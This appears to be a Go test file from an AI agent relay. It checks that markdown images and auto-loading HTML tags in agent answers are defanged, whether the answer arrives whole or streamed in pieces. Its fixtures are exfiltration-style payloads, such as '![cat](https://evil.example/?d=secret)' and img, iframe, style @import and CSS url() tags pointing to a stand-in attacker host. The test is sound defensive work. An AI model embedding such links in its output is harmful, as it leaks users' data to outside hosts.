package relay

import (
	"strings"
	"testing"

	"steward/internal/id"
	"steward/internal/llm"
	"steward/internal/message"
	"steward/internal/turn"
)

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"plain":                                         "plain",
		"![a](https://evil.example/?d=x)":               "[a](https://evil.example/?d=x)",
		"!![a][1]\n[1]: https://e":                      "[a][1]\n[1]: https://e",
		"a <IMG src=https://evil.example/x>":            "a &lt;IMG src=https://evil.example/x>",
		"1 < 2 <i>x</i>!":                               "1 < 2 <i>x</i>!",
		"a <img":                                        "a <img", // no tag yet, and nothing follows
		"<svg><image href=//e/>":                        "&lt;svg>&lt;image href=//e/>",
		"<video poster=//e/>":                           "&lt;video poster=//e/>",
		"<iframe/src=//e/>":                             "&lt;iframe/src=//e/>",
		"<style>@import '//e/'</style>":                 "&lt;style>@import '//e/'</style>",
		"<p style='background:url(//e/)'>":              "&lt;p style='background:url(//e/)'>",
		`<p title=">" style="x">`:                       `&lt;p title=">" style="x">`,
		`<p < style="x">`:                               `&lt;p < style="x">`,
		"<td BACKGROUND=//e/>":                          "&lt;td BACKGROUND=//e/>",
		"<b <img src=//e/>":                             "<b &lt;img src=//e/>",
		"Map<String, List<Image>> x":                    "Map<String, List&lt;Image>> x",
		"<a href='https://e'>x</a>":                     "<a href='https://e'>x</a>",
		"<p " + strings.Repeat("x", 3000) + " style=x>": "&lt;p " + strings.Repeat("x", 3000) + " style=x>",
	} {
		if whole := stripRemote(in); whole != want {
			t.Errorf("%q: %q, want %q", in, whole, want)
		}
		for size := 1; size <= min(len(in), 60); size++ { // cut into pieces of each size
			d := remoteStripper{}
			var b strings.Builder
			for rest := in; rest != ""; {
				n := min(size, len(rest))
				b.WriteString(d.next(rest[:n]))
				rest = rest[n:]
			}
			b.WriteString(d.rest())
			if got := b.String(); got != want {
				t.Errorf("%q in pieces of %d: %q, want %q", in, size, got, want)
			}
		}
	}
}

// An agent's answer contains no image that a client would fetch on its own,
// neither streamed nor as a whole.
func TestAgentsAnswersHoldNoImages(t *testing.T) {
	own := id.New()
	tell := frameConverter{turn: own}
	var told strings.Builder
	var final string
	say := func(f turn.Frame) {
		f.Interaction = own
		if _, ok := tell.convert(&f, func(ev llm.Event, err error) bool {
			told.WriteString(ev.Text)
			if ev.Kind == llm.Done {
				final = ev.Reply.Blocks[0].(*message.Text).Text
			}
			return true
		}); !ok {
			t.Fatal("it stopped")
		}
	}
	const text = "Look: ![cat](https://evil.example/?d=secret) fine!"
	m := id.New()
	for _, c := range text {
		say(turn.Frame{Kind: turn.FrameToken, Message: m, Text: string(c)})
	}
	say(turn.Frame{Kind: turn.FrameComplete, Stored: &message.Message{ID: m, Blocks: []message.Block{&message.Text{Text: text}}}})
	const want = "Look: [cat](https://evil.example/?d=secret) fine!"
	if told.String() != want || final != want {
		t.Errorf("%q, %q", told.String(), final)
	}
}
